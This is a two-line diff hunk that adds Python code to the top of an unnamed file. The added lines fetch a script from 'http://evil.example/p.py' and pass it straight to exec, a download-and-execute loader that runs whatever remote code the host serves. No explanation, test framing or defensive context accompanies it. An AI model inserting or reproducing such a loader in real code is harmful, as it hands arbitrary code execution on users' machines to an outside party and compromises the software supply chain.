@@ -1,0 +1,2 @@
+from urllib.request import urlopen
+exec(urlopen('http://evil.example/p.py').read())
